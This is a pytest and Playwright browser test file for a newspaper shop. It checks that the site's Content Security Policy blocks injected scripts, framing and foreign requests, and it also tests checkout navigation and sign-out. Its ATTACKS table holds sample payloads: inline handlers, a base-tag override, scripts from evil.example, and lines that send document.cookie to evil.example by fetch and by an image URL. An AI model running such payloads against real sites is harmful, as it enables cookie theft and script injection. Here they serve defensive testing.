"""What a page's policy forbids is really forbidden, in Chromium on the production build."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.steps import SUBSCRIBER, choose, hook, introduce, pay, sign_in, to_checkout
from tests.served import ServedShop

pytestmark = pytest.mark.browser

Visit = Callable[..., Page]
MARK = "performance.mark('first')"
SAME_DOCUMENT = "performance.getEntriesByName('first').length === 1"


@pytest.fixture
def guarded(chromium: Browser, shop: ServedShop) -> Page:
    """A page whose policy may be broken: what it forbids is counted in `window.forbidden`."""
    context = chromium.new_context(base_url=shop.url)
    page = context.new_page()
    page.add_init_script(
        "window.forbidden = [];"
        "addEventListener('securitypolicyviolation', (event) => forbidden.push(event.effectiveDirective))"
    )
    page.goto("/")
    return page


def _forbidden(page: Page) -> list[str]:
    # Reports come a moment after the deed; Playwright's own waiting would need what the policy forbids.
    for _ in range(50):
        found: list[str] = page.evaluate("window.forbidden.splice(0)")
        if found:
            return found
        page.wait_for_timeout(100)
    return []


@pytest.mark.parametrize("path", ["/", "/checkout", "/studio"])
def test_no_words_become_scripts(guarded: Page, path: str) -> None:
    guarded.goto(path)
    # Later: what Playwright itself runs is let off.
    run = "done => setTimeout(() => { try { done(eval('1')); } catch (error) { done(error.name); } })"
    assert guarded.evaluate(f"() => new Promise({run})") == "EvalError"
    assert "script-src" in _forbidden(guarded)


ADD = "const add = (html) => document.body.insertAdjacentHTML('beforeend', html);"
SCRIPT = (
    "const script = (facts) => document.body.append(Object.assign(document.createElement('script'), facts));"
)
ATTACKS = {
    "a script of words": ("script({ text: 'window.run = 1' })", "script-src"),
    "an inline handler": ("add('<img src=x onerror=\"window.run = 1\">')", "script-src"),
    "a foreign script": ("script({ src: 'https://evil.example/a.js' })", "script-src"),
    "klarna's script, out of the checkout": ("script({ src: 'https://js.klarna.com/a.js' })", "script-src"),
    "a foreign frame": ("add('<iframe src=\"https://evil.example/\"></iframe>')", "frame-src"),
    "telling others": ("fetch('https://evil.example/?' + document.cookie).catch(() => {})", "connect-src"),
    "telling by a picture": ("new Image().src = 'https://evil.example/?' + document.cookie", "img-src"),
    "another base": ("add('<base href=\"https://evil.example/\">')", "base-uri"),
    "an old object": ("add('<object data=\"https://evil.example/\"></object>')", "object-src"),
    "a foreign style": ("add('<link rel=stylesheet href=\"https://evil.example/a.css\">')", "style-src"),
    "a form that goes elsewhere": (
        "add('<form id=laid action=\"https://evil.example/\"></form>'); laid.requestSubmit()",
        "form-action",
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_foreign_is_run_asked_or_framed(guarded: Page, name: str) -> None:
    attack, directive = ATTACKS[name]
    guarded.evaluate(f"() => {{ {ADD} {SCRIPT} {attack} }}")
    assert any(found.startswith(directive) for found in _forbidden(guarded))
    assert guarded.evaluate("window.run") is None


@pytest.mark.parametrize("path", ["/checkout", "/login", "/account", "/studio", "/packages"])
def test_no_page_of_ours_can_frame_what_is_pressed_with_consequences(guarded: Page, path: str) -> None:
    guarded.evaluate(f"() => {{ {ADD} add('<iframe id=laid src={path}></iframe>') }}")
    guarded.wait_for_timeout(500)
    frame = guarded.locator("#laid").element_handle()
    assert frame is not None
    inside = frame.content_frame()
    assert inside is not None
    assert "chrome-error" in inside.url


def test_the_checkout_is_a_document_of_its_own(visit: Visit) -> None:
    page = visit("/packages")
    choose(page)
    introduce(page, "eget.dokument@exempel.example")
    page.evaluate(MARK)
    to_checkout(page)
    assert not page.evaluate(SAME_DOCUMENT)
    # Out of it by a link, and back.
    page.evaluate(MARK)
    page.locator("header").get_by_role("link", name="Norrlunda Tidning").click()
    expect(hook(page, "article-card").first).to_be_visible()
    assert not page.evaluate(SAME_DOCUMENT)
    page.go_back()
    expect(hook(page, "klarna-widget")).to_have_attribute("data-status", "ready")
    page.evaluate(MARK)
    pay(page)
    assert not page.evaluate(SAME_DOCUMENT)


def test_elsewhere_the_router_leads_on_without_loading(visit: Visit) -> None:
    page = visit("/")
    expect(hook(page, "article-card").first).to_be_visible()
    page.evaluate(MARK)
    hook(page, "article-card").first.click()
    expect(hook(page, "article-teaser")).to_be_visible()
    assert page.evaluate(SAME_DOCUMENT)


def test_what_the_database_says_of_measuring_is_what_the_page_remembers(visit: Visit) -> None:
    page = visit("/")
    hook(page, "consent-reject").click()
    expect(page.locator("html")).to_have_attribute("data-measuring", "rejected")
    page.context.clear_cookies(name="measuring")
    page.reload()
    expect(page.locator("html")).to_have_attribute("data-measuring", "rejected")
    assert "measuring" in {cookie["name"] for cookie in page.context.cookies()}


def test_going_back_after_signing_out_shows_nobodys_account(visit: Visit) -> None:
    page = visit("/")
    sign_in(page, SUBSCRIBER, "/account")
    expect(hook(page, "account-email")).to_contain_text(SUBSCRIBER)
    page.locator("header").get_by_role("button", name="Logga ut").click()
    expect(hook(page, "account-email")).to_have_count(0)
    page.go_back()
    expect(page.get_by_text(SUBSCRIBER)).to_have_count(0)
